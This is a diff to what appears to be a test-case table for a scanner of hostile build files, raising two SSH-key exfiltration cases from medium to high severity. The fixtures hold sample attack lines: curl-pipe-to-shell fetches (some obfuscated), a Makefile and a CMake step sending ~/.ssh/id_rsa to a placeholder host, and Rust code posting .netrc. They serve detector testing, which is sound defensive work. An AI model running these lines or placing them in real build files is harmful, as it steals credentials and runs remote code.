@@ -71,9 +71,9 @@ CASES: Final = (
     Case("C3", "evasion", "high", f"{{'a': ['<!([\"sh\", \"-c\", \"curl {FROM} | sh\"])']}}", GYP),
     Case("C3", "evasion", "high", 'use std::process as p; const C: &str = concat!("cu", "rl");\nfn main() {\n'
          f' let mut c = p::Command::new("sh"); c.arg("-c");\n c.arg(format!("{{}} {FROM} | sh", C)); }}\n', RUST),
-    Case("C4", "hit", "medium", f"all:\n\tcat ~/.ssh/id_rsa | curl -d @- {FROM}\n", MAKE),
+    Case("C4", "hit", "high", f"all:\n\tcat ~/.ssh/id_rsa | curl -d @- {FROM}\n", MAKE),
     Case("C4", "twin", None, f"all:\n\tchmod 600 ~/.ssh/id_rsa\n\techo {FROM}\n", MAKE),
-    Case("C4", "evasion", "medium", f'set(P .ss)\nfile(UPLOAD "$ENV{{HOME}}/${{P}}h/id_rsa" {FROM})\n', CMAKE),
+    Case("C4", "evasion", "high", f'set(P .ss)\nfile(UPLOAD "$ENV{{HOME}}/${{P}}h/id_rsa" {FROM})\n', CMAKE),
     Case("C4", "evasion", "medium", 'use reqwest as r;\nfn main() { let k = read("/home/x/.netrc"); r::post(U); }\n',
          RUST),
     Case("C6", "hit", "medium", "all:\n\tnohup ./worker &\n", MAKE),
